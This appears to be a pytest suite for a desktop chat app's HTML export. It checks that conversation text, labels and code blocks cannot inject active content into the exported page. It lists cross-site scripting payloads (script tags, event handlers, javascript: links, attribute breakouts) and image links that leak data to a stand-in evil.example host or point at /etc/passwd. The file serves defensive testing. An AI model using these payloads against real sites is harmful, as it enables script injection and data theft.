"""Rows M01 to M07 of the fault catalogue, exported to HTML: nothing is loaded or run."""

from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest

from panda_desktop.domain.chat import Conversation, Message, MessageState, Role
from panda_desktop.domain.exchange import FileFormat, Labels
from panda_desktop.services.exchange.colouring import coloured
from panda_desktop.services.exchange.forms import Placed
from panda_desktop.services.exchange.html_form import HtmlForm
from panda_desktop.services.exchange.stylesheet import STYLE
from tests.markdown.samples import HOSTILE_FRAGMENTS, MIXED
from tests.services.exchange.rig import LABELS, rig

NOW = datetime(2026, 11, 24, tzinfo=UTC)
TAGS = frozenset(
    {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "main",
        "article",
        "section",
        "header",
        "div",
        "p",
        "a",
    }
    | {"em", "strong", "del", "s", "code", "pre", "span", "ul", "ol", "li", "blockquote", "hr", "br", "time"}
    | {"table", "thead", "tbody", "tr", "th", "td", "sup", "h1", "h2", "h3", "h4", "h5", "h6"}
)
ATTRIBUTES = frozenset(
    {"lang", "charset", "http-equiv", "content", "name", "class", "datetime", "href", "align", "start"}
)
SAMPLES = [
    # M01, M02: images
    "![](https://evil.example/?d=secret)",
    "![a][r]\n\n[r]: https://evil.example/?d=secret",
    "[![a](https://evil.example/x)](https://evil.example/y)",
    "| ![a](https://evil.example/x) |\n|---|\n",
    "```\n![](https://evil/x)\n```",
    "![](file:///etc/passwd) ![](/abs) ![](\\\\host\\share) ![](//host/x)",
    "![](smb://h/x) ![](qrc:/x) ![](C:\\x)",
    "![x](<file:///etc/passwd>) [y](<file:///etc/passwd>) <file:///etc/passwd>",
    # M03: data
    "![](data:image/png;base64,AAAA) ![](data:image/svg+xml;base64,AAAA) ![](data:text/html,x)",
    # M04: links
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java\tscript:x)",
    "[d](vbscript:x) [e](data:text/html,x) [f](mailto:a@b.c)",
    "[a](ms-msdt:/id) [b](search-ms:q) [c](vscode://x) [d](x-apple.prefs:y) [e](\\\\unc\\x)",
    "[a](&#106;avascript:alert(1)) [b](javascript&colon;alert(1)) <javascript:alert(1)> [c](#top) [d](rel/x)",
    # M05: raw HTML
    "<script>alert(1)</script>",
    "<iframe src=x></iframe><img src=x onerror=y><style>*{background:url(//e)}</style>",
    "<link href=x rel=stylesheet><a href=javascript:x>y</a><!-- --><![CDATA[x]]>",
    '<base href="x"><meta http-equiv=refresh content="0;url=x"><form action=x><input></form><object data=x>',
    "<body bgcolor=red><table background=//e/x><svg onload=alert(1)>",
    # M06: attributes
    '![" onerror="x](https://e.x/y)',
    '[a](https://e.x/"onclick="x) [b](https://e.x \'t" onclick="\')',
    '```py" onclick="x\n<script>1</script>\n```',
    '```python\n"</span></code></pre><script>alert(1)</script>"  # <img src=x>\n```',
    "</div></section></article></main></body></html><script>alert(1)</script>",
    "]]></style><script>alert(1)</script>",
    MIXED,
    "".join(HOSTILE_FRAGMENTS),
]


class Checker(HTMLParser):
    """Collects whatever a browser might act on."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.problems.append(f"<{tag}>")
        if tag not in ("meta", "hr", "br"):
            self.open.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES:
                self.problems.append(f"{tag} {name}")
            if name == "href" and not (value or "").startswith(("https://", "http://", "mailto:")):
                self.problems.append(f"href {value}")
        given = dict(attrs)
        if tag == "meta" and given.get("http-equiv", "Content-Security-Policy") != "Content-Security-Policy":
            self.problems.append(str(attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.problems.append(f"</{tag}> closes something else")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data}")


def problems(page: str) -> list[str]:
    checker = Checker()
    checker.feed(page)
    checker.close()
    return checker.problems + checker.open


def page_of(text: str, role: Role = Role.ASSISTANT) -> str:
    """A page with a text in every place a text can be in."""
    form = HtmlForm(LABELS)
    chat = Conversation("c", text, text, NOW, NOW, system_prompt=text)
    message = Message(
        "m", "c", None, 0, role, text, NOW, reasoning=text, model=text, state=MessageState.INTERRUPTED
    )
    parts = form.head(text), form.opening(chat), form.message(Placed(message)), form.closing(), form.foot()
    return "".join(parts)


@pytest.mark.parametrize("role", Role)
@pytest.mark.parametrize("text", SAMPLES)
def test_m07_nothing_of_a_text_acts_in_the_page(text: str, role: Role) -> None:
    page = page_of(text, role)
    assert problems(page) == []


def test_m07_labels_are_text_too() -> None:
    labels = Labels(*['"><script>alert(1)</script>'] * 9)
    form = HtmlForm(labels)
    message = Message("m", "c", None, 0, Role.ASSISTANT, "x", NOW, reasoning="y", state=MessageState.FAILED)
    chat = Conversation("c", "", "", NOW, NOW, system_prompt="z")
    page = form.head("") + form.opening(chat) + form.message(Placed(message)) + form.closing() + form.foot()
    assert problems(page) == []


async def test_m07_a_whole_file(tmp_path: Path) -> None:
    async with rig(tmp_path) as here:
        for number, text in enumerate(SAMPLES):
            message = Message(f"m{number}", f"c{number}", None, 0, Role.ASSISTANT, text, NOW)
            chat = Conversation(f"c{number}", text, "auto", NOW, NOW, leaf_id=message.id)
            await here.storage.conversations.add((message,), chat)
        page = await here.read_out(FileFormat.HTML)
        assert problems(page) == [] and page.count("<article>") == len(SAMPLES)
        page.encode()


def test_the_page_names_no_resource() -> None:
    assert "url(" not in STYLE and "@import" not in STYLE and "</" not in STYLE
    head = HtmlForm(LABELS).head("x")
    assert "default-src 'none'" in head and "no-referrer" in head


def test_colouring_changes_no_character() -> None:
    code = 'def f(x: int) -> str:\n    return "&lt;b&gt; <i>" # &amp; \u2026\n'
    escaped = code.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    html = (
        f'<p>a</p>\n<pre><code class="language-python">{escaped}</code></pre>\n<pre><code>plain</code></pre>'
    )
    result = coloured(html)
    assert '<span class="keyword">def</span>' in result and result.endswith("<pre><code>plain</code></pre>")
    bare = Text()
    bare.feed(result)
    plain = Text()
    plain.feed(html)
    assert bare.text == plain.text and code in bare.text
    assert coloured('<pre><code class="language-nonsense">x\n</code></pre>') == (
        '<pre><code class="language-nonsense">x\n</code></pre>'
    )


class Text(HTMLParser):
    """Collects what is read."""

    def __init__(self) -> None:
        super().__init__()
        self.text = ""

    def handle_data(self, data: str) -> None:
        self.text += data
